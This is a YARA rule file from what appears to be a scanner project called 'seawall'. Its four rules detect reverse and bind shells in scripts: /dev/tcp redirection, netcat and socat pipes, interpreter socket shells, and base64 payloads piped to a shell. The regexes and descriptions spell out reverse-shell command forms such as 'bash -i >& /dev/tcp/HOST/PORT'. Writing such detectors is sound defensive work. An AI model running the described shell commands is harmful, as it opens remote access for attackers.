// seawall first-party rules: reverse and bind shells in scripts (Apache-2.0).

rule SW_MAL_REVSHELL_DevTcp
{
    meta:
        id = "SW-MAL-REVSHELL-001"
        title = "Reverse shell: interactive shell redirected to /dev/tcp or /dev/udp"
        severity = "critical"
        family = "reverse-shell"
        attack = "T1059.004"
        references = "https://attack.mitre.org/techniques/T1059/004/"
        description = "bash -i >& /dev/tcp/HOST/PORT 0>&1 and variants connect a shell to a remote listener."
    strings:
        $a = /(ba|z|k)?sh\s+-i\s*(>&|&>|>)\s*\/dev\/(tcp|udp)\/[^\/\s]{1,80}\/[0-9]{1,5}/
        $b = /exec\s+[0-9]+<>\s*\/dev\/(tcp|udp)\/[^\/\s]{1,80}\/[0-9]{1,5}/
        $c = /\/dev\/(tcp|udp)\/[^\/\s]{1,80}\/[0-9]{1,5}\s*0>&1/
        $d = /0<&[0-9]+\s*;?\s*exec\s+[0-9]+<>\s*\/dev\/tcp/
    condition:
        any of them
}

rule SW_MAL_REVSHELL_Netcat
{
    meta:
        id = "SW-MAL-REVSHELL-002"
        title = "Reverse/bind shell: netcat or socat wired to a shell"
        severity = "critical"
        family = "reverse-shell"
        attack = "T1059.004"
        references = "https://attack.mitre.org/techniques/T1059/004/"
        description = "nc/ncat -e /bin/sh, the mkfifo+nc pipe or socat exec:bash connect a shell to the network."
    strings:
        $nc_e = /\b(nc|ncat|netcat|nc\.traditional)\s+([-\w.]+\s+){0,4}-(e|c)\s*['"]?\/bin\/(ba|z|da)?sh/
        $nc_e2 = /\b(nc|ncat|netcat)\s+-[lvnp]*e\s+['"]?\/bin\/(ba|z|da)?sh/
        $fifo = /mkfifo\s+\/\S+\s*;?\s*(cat\s+\/\S+\s*\|\s*)?\/?(bin\/)?(ba)?sh\s+-i[^\n]{0,40}\|\s*(nc|ncat|netcat|telnet)\s/
        $fifo2 = /(rm\s+[-\w]*\s*\/tmp\/\w+\s*;\s*)?mkfifo\s+\/tmp\/\w+\s*;\s*cat\s+\/tmp\/\w+\s*\|/
        $socat = /socat\s+[^\n]{0,60}exec:['"]?(\/bin\/)?(ba|z)?sh[^\n]{0,60}(tcp|tcp4|tcp-connect|openssl|ssl):/ nocase
        $socat2 = /socat\s+[^\n]{0,40}(tcp|tcp4|tcp-connect|openssl):[^\n]{0,60}exec:['"]?(\/bin\/)?(ba|z)?sh/ nocase
        $telnet = /telnet\s+\S+\s+[0-9]{1,5}\s*\|\s*\/bin\/(ba)?sh\s*\|\s*telnet/
    condition:
        any of them
}

rule SW_MAL_REVSHELL_Interpreter
{
    meta:
        id = "SW-MAL-REVSHELL-003"
        title = "Reverse shell: Python/Perl/PHP/Ruby socket duplicated onto a shell"
        severity = "critical"
        family = "reverse-shell"
        attack = "T1059"
        references = "https://attack.mitre.org/techniques/T1059/"
        description = "A script connects a socket and hands it to /bin/sh as stdin/stdout (dup2 + spawn/exec)."
    strings:
        $py1 = /os\.dup2\s*\(\s*\w+\.fileno\s*\(\s*\)\s*,\s*0\s*\)/
        $py2 = /(pty\.spawn|subprocess\.(call|Popen|run))\s*\(\s*\[?\s*['"]\/bin\/(ba|z)?sh['"]/
        $py3 = /socket\.socket\s*\([^)]{0,60}\)[^\n]{0,80};\s*\w+\.connect\s*\(\s*\(/
        $pl1 = /use\s+Socket\s*;[^\n]{0,300}open\s*\(\s*STDIN\s*,\s*['"]>&S['"]\s*\)/
        $pl2 = /exec\s*\(\s*['"]\/bin\/(ba)?sh\s+-i['"]\s*\)/
        $php = /fsockopen\s*\([^)]{1,80}\)\s*;[^\n]{0,80}(exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*['"]\/bin\/(ba)?sh\s+-i\s*<&3/
        $rb = /TCPSocket\.(new|open)\s*\([^\n]{1,120}(exec|spawn)\s*(sprintf\s*)?\(?\s*['"]\/bin\/(ba)?sh\s+-i/
        $sh_i3 = /\/bin\/(ba)?sh\s+-i\s*<&3\s*>&3\s*2>&3/
    condition:
        ($py1 and ($py2 or $py3)) or ($pl1) or ($pl2 and $pl1) or $php or $rb or $sh_i3
}

rule SW_MAL_REVSHELL_Encoded
{
    meta:
        id = "SW-MAL-REVSHELL-004"
        title = "Encoded payload piped to a shell (echo BASE64 | base64 -d | sh)"
        severity = "high"
        family = "reverse-shell"
        attack = "T1027"
        references = "https://attack.mitre.org/techniques/T1027/"
        description = "A long base64 blob decoded and executed by a shell hides the real command (often a reverse shell or miner dropper)."
    strings:
        $b = /echo\s+['"]?[A-Za-z0-9+\/=]{40,}['"]?\s*\|\s*base64\s+(-d|--decode)\s*\|\s*(\/bin\/)?(ba|z|da)?sh/
        $b2 = /(ba)?sh\s+-c\s+['"]?\{?echo,[A-Za-z0-9+\/=]{40,}\}?\|\{?base64,-d\}?\|\{?(ba)?sh/
    condition:
        any of them
}
